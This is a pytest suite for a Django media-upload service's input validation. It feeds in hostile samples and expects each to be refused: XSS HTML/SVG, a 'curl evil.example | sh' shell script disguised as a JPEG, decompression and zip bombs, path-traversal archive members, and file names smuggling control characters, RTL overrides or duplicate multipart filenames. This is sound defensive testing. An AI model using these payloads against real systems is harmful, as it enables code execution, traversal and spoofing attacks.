"""Every bad input gets a clear refusal (400 for one file, a rejected line in bulk) and leaves nothing
behind: no Asset row, no file under MEDIA_ROOT. One bad file never stops the others."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pytest
from PIL import Image

from assets import actions
from assets.models import Asset, Status
from assets.processing import process_asset
from tests.assets.conftest import make_zip, media_files, png_bytes, unique_jpeg
from tests.conftest import SAMPLES, sample, upload_bytes

pytestmark = pytest.mark.django_db

UNSUPPORTED = "unsupported file type"


# --- Bad files, made on the fly ------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A well-formed PNG header claiming a huge canvas, with a few bytes of pixel data: a decompression bomb."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + _png_chunk(b"IEND", b"")
    )


def noisy_png(size=(128, 128)) -> bytes:
    rng = random.Random(7)
    image = Image.frombytes("RGB", size, bytes(rng.getrandbits(8) for _ in range(size[0] * size[1] * 3)))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def jpeg_with_garbage() -> bytes:
    """A JPEG whose entropy-coded data is overwritten with random bytes in the middle."""
    data = bytearray(sample("jpg/gps/DSCN0010.jpg").read_bytes())
    rng = random.Random(3)
    middle = len(data) // 2
    data[middle : middle + 2000] = bytes(rng.getrandbits(8) for _ in range(2000))
    return bytes(data)


def avi_bytes() -> bytes:
    """A RIFF file of type AVI: a container beside the WAVE one MediaVault takes, but not on its list."""
    body = b"AVI LIST" + struct.pack("<I", 4) + b"hdrl"
    return b"RIFF" + struct.pack("<I", len(body)) + body


# The compound-file header of old Word, Excel and PowerPoint files.
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def bmp_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (20, 20), "white").save(buffer, format="BMP")
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>'
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"

# Pillow warns (rather than raises) between 1x and 2x its own pixel cap; inspect_image's explicit pixel check
# is what refuses those, in tests and in production alike.
QUIET_BOMB_WARNING = pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")

# (client file name, bytes, settings overrides, words the refusal must contain)
BAD_FILES = [
    pytest.param("page.html", lambda: HTML, {}, UNSUPPORTED, id="html"),
    pytest.param("photo.jpg", lambda: HTML, {}, UNSUPPORTED, id="html-named-jpg"),
    pytest.param("logo.svg", lambda: SVG, {}, UNSUPPORTED, id="svg"),
    pytest.param("logo.png", lambda: SVG, {}, UNSUPPORTED, id="svg-named-png"),
    pytest.param("holiday.jpg", lambda: SHELL, {}, UNSUPPORTED, id="shell-script-named-jpg"),
    pytest.param("clip.avi", avi_bytes, {}, UNSUPPORTED, id="avi-not-on-the-list"),
    pytest.param("report.doc", lambda: OLE, {}, UNSUPPORTED, id="word-document"),
    pytest.param("scan.pdf", lambda: OLE, {}, UNSUPPORTED, id="word-document-named-pdf"),
    pytest.param("x.pdf", lambda: b"%PDF-1.7\n" + HTML, {}, "corrupt or truncated PDF", id="pdf-header-then-html"),
    pytest.param("x.mp4", lambda: b"\x00\x00\x00\x18ftypisom" + HTML, {}, "MP4", id="mp4-header-then-html"),
    pytest.param("x.mp3", lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + HTML, {}, "MP3", id="id3-then-html"),
    pytest.param("old.bmp", bmp_bytes, {}, UNSUPPORTED, id="bmp-not-on-the-list"),
    pytest.param("archive.zip", lambda: make_zip({"a.jpg": unique_jpeg()}), {}, UNSUPPORTED, id="zip-to-single"),
    pytest.param("x.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML, {}, "PNG image", id="png-header-then-html"),
    pytest.param("x.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, {}, "corrupt or truncated JPEG",
                 id="jpeg-magic-then-html"),
    pytest.param("x.gif", lambda: b"GIF89a" + HTML, {}, "not a valid GIF image", id="gif-magic-then-html"),
    pytest.param("x.tif", lambda: b"II*\x00\x08\x00\x00\x00", {}, "not a valid TIFF image", id="tiff-header-only",
                 marks=pytest.mark.filterwarnings("ignore:Corrupt EXIF data:UserWarning")),
    pytest.param("x.jpg", lambda: half(sample("jpg/gps/DSCN0010.jpg").read_bytes()), {},
                 "corrupt or truncated JPEG", id="jpeg-truncated-half"),
    pytest.param("x.jpg", lambda: sample("jpg/gps/DSCN0010.jpg").read_bytes()[:-300], {},
                 "corrupt or truncated JPEG", id="jpeg-truncated-tail"),
    pytest.param("x.jpg", jpeg_with_garbage, {}, "corrupt or truncated JPEG", id="jpeg-garbage-inside"),
    pytest.param("x.png", lambda: half(noisy_png()), {}, "corrupt or truncated PNG", id="png-truncated"),
    pytest.param("x.heic", lambda: half(sample("heic/samplefilehub.heif").read_bytes()), {},
                 "corrupt or truncated HEIF", id="heif-truncated"),
    pytest.param("bomb.png", lambda: png_claiming(100_000, 100_000), {}, "over the limit of 100,000,000 pixels",
                 id="png-bomb-header"),
    pytest.param("bomb.png", lambda: png_claiming(12_000, 12_000), {}, "over the limit of 100,000,000 pixels",
                 id="png-bomb-between-1x-and-2x-pillow-limit", marks=QUIET_BOMB_WARNING),
    pytest.param("big.jpg", lambda: sample("jpg/Canon_40D.jpg").read_bytes(), {"MAX_IMAGE_PIXELS": 5000},
                 "100x68 pixels, over the limit of 5,000 pixels", id="over-max-image-pixels"),
    pytest.param("big.jpg", lambda: sample("jpg/Canon_40D.jpg").read_bytes(), {"MAX_UPLOAD_BYTES": 2000},
                 "larger than the limit of 2,000 bytes", id="over-max-upload-bytes"),
    pytest.param("empty.jpg", lambda: b"", {}, "file is empty", id="empty"),
]


# In bulk a zip is an archive, not a bad file: archives have their own tests below.
BULK_BAD_FILES = [case for case in BAD_FILES if case.id != "zip-to-single"]


def _apply(settings, overrides: dict) -> None:
    for name, value in overrides.items():
        setattr(settings, name, value)


@pytest.mark.parametrize(("name", "make", "overrides", "reason"), BAD_FILES)
def test_single_upload_is_refused_with_400_and_leaves_nothing(name, make, overrides, reason, alice, api_for, settings):
    _apply(settings, overrides)
    before = media_files()

    response = api_for(alice).post("/api/v1/assets/", {"file": upload_bytes(make(), name)}, format="multipart")

    assert response.status_code == 400, response.content
    assert reason in response.json()["detail"]
    assert response.json()["filename"] == name
    assert not Asset.objects.exists()
    assert media_files() == before


@pytest.mark.parametrize(("name", "make", "overrides", "reason"), BULK_BAD_FILES)
def test_bulk_rejects_the_bad_file_and_keeps_the_good_one(name, make, overrides, reason, alice, api_for, settings):
    _apply(settings, overrides)
    before = media_files()
    good = unique_jpeg()  # small enough for every override above

    response = api_for(alice).post(
        "/api/v1/assets/bulk/",
        {"files": [upload_bytes(make(), name), upload_bytes(good, "good.jpg")]},
        format="multipart",
    )

    assert response.status_code == 207, response.content
    body = response.json()
    assert body["counts"] == {"created": 1, "duplicate": 0, "rejected": 1}
    bad, created = body["results"]
    assert (bad["filename"], bad["status"], bad["id"]) == (name, "rejected", None)
    assert reason in bad["reason"]
    assert created["status"] == "created"
    asset = Asset.objects.get()
    assert asset.pk == created["id"] and asset.original_filename == "good.jpg"
    assert media_files() - before == {asset.blob.name}


# --- Archives --------------------------------------------------------------------------------


def _encrypted_flag(data: bytes) -> bytes:
    """Mark the first entry as encrypted (general purpose flag bit 0) in both headers."""
    patched = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = patched.find(signature)
        patched[at + flag_offset] |= 0x01
    return bytes(patched)


def _bomb_zip() -> bytes:
    return make_zip({"ok.jpg": unique_jpeg(), "bomb.jpg": b"\x00" * (8 * 1024 * 1024)}, zipfile.ZIP_DEFLATED)


# (zip members or bytes, settings overrides, words the refusal must contain)
HOSTILE_ARCHIVES = [
    pytest.param(lambda: make_zip({"ok.jpg": unique_jpeg(), "../evil.jpg": unique_jpeg()}), {}, "path traversal",
                 id="parent-dir"),
    pytest.param(lambda: make_zip({"ok.jpg": unique_jpeg(), "photos/../../evil.jpg": unique_jpeg()}), {},
                 "path traversal", id="nested-parent-dir"),
    pytest.param(lambda: make_zip({"ok.jpg": unique_jpeg(), "..\\evil.jpg": unique_jpeg()}), {}, "path traversal",
                 id="windows-parent-dir"),
    pytest.param(lambda: make_zip({"ok.jpg": unique_jpeg(), "/etc/x.jpg": unique_jpeg()}), {}, "absolute path",
                 id="absolute"),
    pytest.param(lambda: make_zip({"ok.jpg": unique_jpeg(), "C:/x.jpg": unique_jpeg()}), {}, "absolute path",
                 id="drive-letter"),
    pytest.param(lambda: make_zip({f"{i}.jpg": unique_jpeg() for i in range(4)}), {"MAX_ARCHIVE_ENTRIES": 3},
                 "archive has 4 entries, over the limit of 3", id="too-many-entries"),
    pytest.param(_bomb_zip, {}, "zip bomb", id="compression-ratio-bomb"),
    pytest.param(lambda: make_zip({f"{i}.jpg": unique_jpeg(size=(128, 128)) for i in range(3)}),
                 {"MAX_ARCHIVE_BYTES": 2000}, "over the limit of 2,000", id="total-size"),
    pytest.param(lambda: _encrypted_flag(make_zip({"ok.jpg": unique_jpeg()})), {}, "encrypted", id="encrypted"),
    pytest.param(lambda: b"PK\x03\x04" + b"\x00" * 200, {}, "not a readable zip archive", id="not-a-zip"),
    pytest.param(lambda: half(make_zip({"a.jpg": unique_jpeg(), "b.jpg": unique_jpeg()})), {},
                 "not a readable zip archive", id="truncated-zip"),
]


@pytest.mark.parametrize(("make", "overrides", "reason"), HOSTILE_ARCHIVES)
def test_hostile_archive_is_refused_whole(make, overrides, reason, alice, api_for, settings):
    _apply(settings, overrides)
    before = media_files()
    good = unique_jpeg()

    response = api_for(alice).post(
        "/api/v1/assets/bulk/",
        {"files": [upload_bytes(good, "before.jpg"), upload_bytes(make(), "hostile.zip")]},
        format="multipart",
    )

    assert response.status_code == 207, response.content
    body = response.json()
    # The plain file beside it is stored; not one member of the hostile archive is, even its harmless ones.
    assert body["counts"] == {"created": 1, "duplicate": 0, "rejected": 1}
    created, refused = body["results"]
    assert (created["filename"], created["status"]) == ("before.jpg", "created")
    assert (refused["filename"], refused["status"], refused["id"]) == ("hostile.zip", "rejected", None)
    assert reason in refused["reason"]
    asset = Asset.objects.get()
    assert media_files() - before == {asset.blob.name}


@pytest.mark.parametrize(
    "archive",
    [
        pytest.param(b"PK\x05\x06" + b"\x00" * 18, id="no-entries"),
        pytest.param(make_zip({"folder/": b"", "__MACOSX/._x.jpg": b"fork", ".DS_Store": b"junk"}), id="only-skipped"),
    ],
)
def test_an_archive_with_no_files_gets_a_rejected_line(archive, alice, api_for):
    response = api_for(alice).post(
        "/api/v1/assets/bulk/", {"files": [upload_bytes(archive, "nothing.zip")]}, format="multipart"
    )
    assert response.status_code == 207
    assert response.json()["results"] == [
        {"filename": "nothing.zip", "status": "rejected", "id": None, "reason": "archive holds no files"}
    ]


def _member_offset(data: bytes, name: str) -> tuple[int, int]:
    """(local header offset, start of the member's data) of one archive member."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    local = info.header_offset
    name_len, extra_len = struct.unpack("<HH", data[local + 26 : local + 30])
    return local, local + 30 + name_len + extra_len


def _corrupt_deflate(data: bytes, name: str) -> bytes:
    patched = bytearray(data)
    _, start = _member_offset(data, name)
    patched[start : start + 16] = b"\xff" * 16  # an invalid deflate block type
    return bytes(patched)


def _unknown_method(data: bytes, name: str) -> bytes:
    """Label one member with compression method 99 (AES, which zipfile cannot read) in both headers."""
    patched = bytearray(data)
    local, _ = _member_offset(data, name)
    patched[local + 8 : local + 10] = struct.pack("<H", 99)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_len = struct.unpack("<H", data[at + 28 : at + 30])[0]
        if data[at + 46 : at + 46 + name_len] == name.encode():
            patched[at + 10 : at + 12] = struct.pack("<H", 99)
        at = data.find(b"PK\x01\x02", at + 46 + name_len)
    return bytes(patched)


def test_bulk_mixes_good_and_bad_files_and_archive_members(alice, api_for):
    before = media_files()
    good_plain, good_member, good_png = unique_jpeg(), unique_jpeg(color=(1, 2, 3)), png_bytes(color=(9, 99, 199))
    members = {
        "good2.jpg": good_member,
        "photos/good3.png": good_png,
        "notes.txt": b"just words",
        "broken.jpg": half(unique_jpeg(size=(200, 200))),
        "nested.zip": make_zip({"inner.jpg": unique_jpeg()}),
        "rtl\u202egpj.jpg": unique_jpeg(),
        "zero\u200bwidth.jpg": unique_jpeg(),
        "line\u2028break.jpg": unique_jpeg(),
        "inflate-error.jpg": unique_jpeg(size=(100, 100)),
        "unknown-method.jpg": unique_jpeg(size=(90, 90)),
        "__MACOSX/._good2.jpg": b"resource fork",
        ".DS_Store": b"finder junk",
        "photos/": b"",
    }
    archive = make_zip(members, zipfile.ZIP_DEFLATED)
    archive = _corrupt_deflate(archive, "inflate-error.jpg")
    archive = _unknown_method(archive, "unknown-method.jpg")

    response = api_for(alice).post(
        "/api/v1/assets/bulk/",
        {
            "files": [
                upload_bytes(good_plain, "good1.jpg"),
                upload_bytes(HTML, "page.html"),
                upload_bytes(b"", "empty.jpg"),
                upload_bytes(archive, "mixed.zip"),
                upload_bytes(half(noisy_png()), "cut.png"),
            ],
            "tags": "bulk, Test",
        },
        format="multipart",
    )

    assert response.status_code == 207, response.content
    results = {r["filename"]: (r["status"], r["reason"]) for r in response.json()["results"]}
    expected = {
        "good1.jpg": ("created", ""),
        "page.html": ("rejected", UNSUPPORTED),
        "empty.jpg": ("rejected", "file is empty"),
        "mixed.zip/good2.jpg": ("created", ""),
        "mixed.zip/photos/good3.png": ("created", ""),
        "mixed.zip/notes.txt": ("rejected", UNSUPPORTED),
        "mixed.zip/broken.jpg": ("rejected", "corrupt or truncated JPEG"),
        "mixed.zip/nested.zip": ("rejected", UNSUPPORTED),
        "mixed.zip/rtl\u202egpj.jpg": ("rejected", "control or invisible character (U+202E)"),
        "mixed.zip/zero\u200bwidth.jpg": ("rejected", "control or invisible character (U+200B)"),
        "mixed.zip/line\u2028break.jpg": ("rejected", "control or invisible character (U+2028)"),
        "mixed.zip/inflate-error.jpg": ("rejected", "unreadable archive entry"),
        "mixed.zip/unknown-method.jpg": ("rejected", "compression method is not supported"),
        "cut.png": ("rejected", "corrupt or truncated PNG"),
    }
    assert set(results) == set(expected)  # directory entries, __MACOSX and dot files are skipped
    for filename, (status, reason) in expected.items():
        assert results[filename][0] == status, (filename, results[filename])
        assert reason in results[filename][1], (filename, results[filename])
    assert response.json()["counts"] == {"created": 3, "duplicate": 0, "rejected": 11}

    assets = {a.original_filename: a for a in Asset.objects.all()}
    assert set(assets) == {"good1.jpg", "good2.jpg", "good3.png"}
    assert assets["good3.png"].mime_type == "image/png"
    assert all(a.tags == ["bulk", "test"] for a in assets.values())
    assert media_files() - before == {a.blob.name for a in assets.values()}


def test_broken_member_through_upload_many_directly(alice):
    """The regression behind the mixed test: a corrupt deflate stream used to raise zlib.error out of
    upload_many, failing the whole request after some members were already stored."""
    archive = _corrupt_deflate(
        make_zip({"a.jpg": unique_jpeg(), "b.jpg": unique_jpeg(), "c.jpg": unique_jpeg()}, zipfile.ZIP_DEFLATED),
        "b.jpg",
    )
    results = list(actions.upload_many(alice, [("set.zip", io.BytesIO(archive))], actions.AssetOptions()))
    assert [(r.filename, r.status) for r in results] == [
        ("set.zip/a.jpg", "created"), ("set.zip/b.jpg", "rejected"), ("set.zip/c.jpg", "created"),
    ]
    assert "zlib" in results[1].reason or "decompressing" in results[1].reason


# --- File names --------------------------------------------------------------------------------

# Names as actions.upload_asset receives them (from archives, the portal or a script): refused outright.
HOSTILE_NAMES = [
    pytest.param("../../etc/passwd.jpg", "path separators", id="parent-dirs"),
    pytest.param("/etc/evil.jpg", "path separators", id="absolute"),
    pytest.param("dir\\evil.jpg", "path separators", id="backslash"),
    pytest.param("evil\x00.jpg", "U+0000", id="nul"),
    pytest.param("two\nlines.jpg", "U+000A", id="newline"),
    pytest.param("ansi\x1b[31m.jpg", "U+001B", id="escape-sequence"),
    pytest.param("del\x7f.jpg", "U+007F", id="delete"),
    pytest.param("invoice\u202egpj.exe", "U+202E", id="rtl-override"),
    pytest.param("zero\u200bwidth.jpg", "U+200B", id="zero-width-space"),
    pytest.param("\ufeffbom.jpg", "U+FEFF", id="byte-order-mark"),
    pytest.param("para\u2029graph.jpg", "U+2029", id="paragraph-separator"),
    pytest.param("private\ue000use.jpg", "U+E000", id="private-use"),
    pytest.param("", "file name is missing", id="empty"),
    pytest.param(None, "file name is missing", id="none"),
    pytest.param("..", "file name must not be '..'", id="dot-dot"),
    pytest.param("   ", "file name is empty", id="blank"),
    pytest.param("x" * 252 + ".jpg", "longer than 255", id="too-long"),
]


@pytest.mark.parametrize(("raw_name", "reason"), HOSTILE_NAMES)
def test_hostile_file_name_is_refused_by_upload_asset(raw_name, reason, alice):
    before = media_files()
    result = actions.upload_asset(alice, io.BytesIO(unique_jpeg()), raw_name, actions.AssetOptions())
    assert result.status == "rejected"
    assert reason in result.reason
    assert not Asset.objects.exists()
    assert media_files() == before


@pytest.mark.parametrize(
    ("raw_name", "stored"),
    [
        pytest.param("Café ☕ 写真.jpg", "Café ☕ 写真.jpg", id="unicode"),
        pytest.param("Cafe\u0301.jpg", "Caf\u00e9.jpg", id="nfd-to-nfc"),
        pytest.param('say "cheese" it\'s; fine.jpg', 'say "cheese" it\'s; fine.jpg', id="quotes"),
        pytest.param("  IMG_5195.JPG  ", "IMG_5195.JPG", id="padded"),
        pytest.param("שלום.jpg", "שלום.jpg", id="rtl-script-without-overrides"),
    ],
)
def test_odd_but_honest_names_are_kept(raw_name, stored, alice):
    result = actions.upload_asset(alice, io.BytesIO(unique_jpeg()), raw_name, actions.AssetOptions())
    assert result.status == "created", result.reason
    assert result.asset.original_filename == stored
    assert result.asset.blob.name.startswith(f"originals/{result.asset.sha256[:2]}/")  # never the client's name


def _raw_multipart(disposition_params: str, data: bytes) -> tuple[bytes, str]:
    boundary = "----mediavault-test-boundary"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; {disposition_params}\r\n'
        "Content-Type: image/jpeg\r\n\r\n"
    ).encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


# What a client puts in a part's Content-Disposition -> the refusal. Django's parser would clean these names
# (keep the last path component, drop non-printable characters, skip "..") and accept the result; the
# upload handler in assets.multipart hands clean_filename the name as sent instead, so each is refused.
MULTIPART_REFUSALS = [
    pytest.param('filename="../../etc/evil.jpg"', "path separators", id="parent-dirs"),
    pytest.param('filename="C:\\\\Windows\\\\evil.jpg"', "path separators", id="windows-path"),
    pytest.param('filename="dir/evil.jpg"', "path separators", id="slash"),
    pytest.param('filename="&#x2F;etc&#x2F;encoded.jpg"', "path separators", id="html-encoded-slash"),
    pytest.param('filename=".."', "must not be '..'", id="dot-dot"),
    pytest.param('filename="."', "must not be '.'", id="dot"),
    pytest.param('filename="ctl\x01\x7f.jpg"', "U+0001", id="control-chars"),
    pytest.param('filename="nul\x00.jpg"', "U+0000", id="nul"),
    pytest.param('filename="tab\there.jpg"', "U+0009", id="tab"),
    pytest.param('filename="invoice\u202egpj.exe"', "U+202E", id="rtl-override"),
    pytest.param('filename="invoice&#8238;gpj.exe"', "U+202E", id="html-encoded-rtl-override"),
    pytest.param('filename="isolate\u2066x\u2069.jpg"', "U+2066", id="bidi-isolate"),
    pytest.param('filename="zero\u200bwidth.jpg"', "U+200B", id="zero-width-space"),
    pytest.param('filename="joiner\u200d.jpg"', "U+200D", id="zero-width-joiner"),
    # An unescaped quote in a client's name: the header then carries two file names. Django took the second.
    pytest.param("filename=\"a\"; filename*=UTF-8''evil.html\"", "filename* is not allowed", id="quote-injection"),
    pytest.param("filename*=UTF-8''a%2Fb%0A.jpg", "filename* is not allowed", id="rfc2231"),
    pytest.param('filename*0="a"; filename*1="b.html"', "filename* is not allowed", id="rfc2231-continuations"),
    pytest.param('filename="x.jpg"; filename="y.html"', "names the file more than once", id="two-filenames"),
]


@pytest.mark.parametrize(("params", "reason"), MULTIPART_REFUSALS)
def test_api_file_names_are_checked_as_the_client_sent_them(params, reason, alice, api_for):
    before = media_files()
    body, content_type = _raw_multipart(params, unique_jpeg())
    response = api_for(alice).generic("POST", "/api/v1/assets/", body, content_type=content_type)
    assert response.status_code == 400, response.content
    assert response.json()["detail"].startswith("file name") and reason in response.json()["detail"]
    assert not Asset.objects.exists()
    assert media_files() == before


@pytest.mark.parametrize(
    ("params", "stored"),
    [
        pytest.param('filename="say \\"cheese\\"; ok.jpg"', 'say "cheese"; ok.jpg', id="escaped-quotes"),
        pytest.param('filename="写真 été.jpg"', "写真 été.jpg", id="utf-8"),
        pytest.param('filename="Tom &amp; Jerry.jpg"', "Tom & Jerry.jpg", id="html-entity-as-django-reads-it"),
    ],
)
def test_api_keeps_honest_multipart_names(params, stored, alice, api_for):
    body, content_type = _raw_multipart(params, unique_jpeg())
    response = api_for(alice).generic("POST", "/api/v1/assets/", body, content_type=content_type)
    assert response.status_code == 201, response.content
    assert Asset.objects.get().original_filename == stored


def _raw_bulk(names: list[str], fields: dict[str, str] | None = None) -> tuple[bytes, str]:
    boundary = "----mediavault-test-boundary"
    body = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in (fields or {}).items()
    ) + b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
        f"Content-Type: image/jpeg\r\n\r\n".encode() + unique_jpeg(color=(i * 40, 90, 90)) + b"\r\n"
        for i, name in enumerate(names)
    ) + f"--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def test_bulk_refuses_only_the_file_with_the_bad_name(alice, api_for):
    body, content_type = _raw_bulk(["one.jpg", "../two.jpg", "thr\u202eee.jpg", "four.jpg"])
    response = api_for(alice).generic("POST", "/api/v1/assets/bulk/", body, content_type=content_type)
    assert response.status_code == 207, response.content
    results = [(r["status"], r["reason"]) for r in response.json()["results"]]
    assert [status for status, _ in results] == ["created", "rejected", "rejected", "created"]
    assert "path separators" in results[1][1] and "U+202E" in results[2][1]
    assert set(Asset.objects.values_list("original_filename", flat=True)) == {"one.jpg", "four.jpg"}


def test_names_stay_with_their_files_across_large_parts(alice, api_for):
    # Parts far larger than the parser's 64 KiB reads: each name is read from its own part's header.
    boundary = "----mediavault-test-boundary"
    photos = {f"large-{i}.jpg": sample(path).read_bytes()
              for i, path in enumerate(["jpg/gps/DSCN0010.jpg", "jpg/Canon_40D.jpg", "jpg/gps/DSCN0012.jpg"])}
    body = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n'.encode()
        + data + b"\r\n"
        for name, data in photos.items()
    ) + f"--{boundary}--\r\n".encode()
    assert sum(len(data) > 64 * 1024 for data in photos.values()) >= 2
    response = api_for(alice).generic("POST", "/api/v1/assets/bulk/", body,
                                      content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 207, response.content
    assert [r["status"] for r in response.json()["results"]] == ["created"] * 3
    stored = {a.original_filename: a.byte_size for a in Asset.objects.all()}
    assert stored == {name: len(data) for name, data in photos.items()}


@pytest.mark.parametrize("read_size", [1, 7, 64, 65536])
def test_header_tap_finds_every_part_whatever_the_read_size(read_size):
    from assets.multipart import _HeaderTap

    body, content_type = _raw_bulk(["a.jpg", "b\u202e.jpg", "c.jpg"], {"visibility": "private"})
    tap = _HeaderTap(io.BytesIO(body), content_type.split("boundary=")[1].encode(), "utf-8")
    assert b"".join(iter(lambda: tap.read(read_size), b"")) == body  # passes every byte on, unchanged
    names = []
    while (part := tap.next_file_part()) is not None:
        names.append((part.django_name, part.client_name, part.client_name.problem))
    assert names == [("a.jpg", "a.jpg", None), ("b\u202e.jpg", "b\u202e.jpg", None), ("c.jpg", "c.jpg", None)]


def test_portal_upload_checks_names_as_sent(alice, client_for):
    body, content_type = _raw_bulk(["fine.jpg", "zero\u200bwidth.jpg"], {"visibility": "private"})
    response = client_for(alice).generic("POST", "/upload/", body, content_type=content_type,
                                         headers={"accept": "application/json"})
    assert response.status_code == 200, response.content
    results = {r["filename"]: (r["status"], r["reason"]) for r in response.json()["results"]}
    assert results["fine.jpg"][0] == "created"
    assert results["zero\u200bwidth.jpg"][0] == "rejected" and "U+200B" in results["zero\u200bwidth.jpg"][1]
    assert list(Asset.objects.values_list("original_filename", flat=True)) == ["fine.jpg"]


def test_check_options_refuses_a_team_the_uploader_does_not_edit(alice, charlie, api_for, other_team):
    before = media_files()
    response = api_for(alice).post(
        "/api/v1/assets/bulk/",
        {"files": [upload_bytes(unique_jpeg(), "a.jpg")], "team": other_team.slug, "visibility": "team"},
        format="multipart",
    )
    assert response.status_code == 400
    assert "not an editor or manager of that team" in response.json()["detail"]
    assert not Asset.objects.exists()
    assert media_files() == before


# --- The odd samples: broken metadata, sound pixels ---------------------------------------------

# Every file of jpg/invalid/, jpg/corrupted.jpg and jpg/tests/ decodes completely with Pillow: each one ends
# with an EOI marker and libjpeg reads every scanline without a "truncated" or "broken data stream" error.
# What is broken in them is metadata, not pixels: they come from the test suite of an EXIF parser (exifread),
# where jpg/invalid/ holds XMP packets in APP1 segments that EXIF parsers mistake for EXIF, corrupted.jpg has a
# damaged maker note (PrintIM block), and jpg/tests/ are regressions for parser crashes (TypeError, IndexError,
# MemoryError, OSError, zero-length strings, a GPS IFD in an odd place). They are genuine photos, so the
# right outcome is to accept them and survive their metadata: status ready with thumbnails, never a crash.
ODD_SAMPLES = {
    "jpg/invalid/image00971.jpg": None,
    "jpg/invalid/image01088.jpg": None,
    "jpg/invalid/image01137.jpg": None,
    "jpg/invalid/image01551.jpg": None,
    "jpg/invalid/image01713.jpg": None,
    "jpg/invalid/image01980.jpg": None,
    "jpg/invalid/image02206.jpg": None,
    "jpg/corrupted.jpg": "OLYMPUS IMAGING CORP.",
    "jpg/tests/11-tests.jpg": "Canon",
    "jpg/tests/22-canon_tags.jpg": "Canon",
    "jpg/tests/28-hex_value.jpg": "Canon",
    "jpg/tests/30-type_error.jpg": None,
    "jpg/tests/32-lens_data.jpeg": "NIKON CORPORATION",
    "jpg/tests/33-type_error.jpg": "Canon",
    "jpg/tests/35-empty.jpg": "CASIO COMPUTER CO.,LTD",
    "jpg/tests/36-memory_error.jpg": "CASIO COMPUTER CO.,LTD.",
    "jpg/tests/42_IndexError.jpg": "OLYMPUS IMAGING CORP.",
    "jpg/tests/45-gps_ifd.jpg": "Polyphony Digital Inc.",
    "jpg/tests/67-0_length_string.jpg": "samsung",
    "jpg/tests/87_OSError.jpg": "NIKON CORPORATION",
}


def test_odd_sample_list_covers_every_file_on_disk():
    on_disk = {
        str(p.relative_to(SAMPLES))
        for folder in ("jpg/invalid", "jpg/tests")
        for p in (SAMPLES / folder).iterdir()
        if p.name != "README"
    } | {"jpg/corrupted.jpg"}
    assert on_disk == set(ODD_SAMPLES)


@pytest.mark.parametrize(("relative", "make"), ODD_SAMPLES.items(), ids=list(ODD_SAMPLES))
def test_odd_sample_is_accepted_and_processed(relative, make, alice, api_for):
    path = sample(relative)
    response = api_for(alice).post("/api/v1/assets/", {"file": upload_bytes(path.read_bytes(), path.name)},
                                   format="multipart")
    assert response.status_code == 201, response.content

    assert process_asset(response.json()["id"]).startswith("ready")
    asset = Asset.objects.get(pk=response.json()["id"])
    assert asset.status == Status.READY, asset.error
    assert asset.camera_make == (make or "")
    assert {r.spec for r in asset.renditions.all()} == {"max256", "max1024"}
    with Image.open(path) as original:
        assert (asset.width, asset.height) == original.size  # all of them have orientation 1 or none
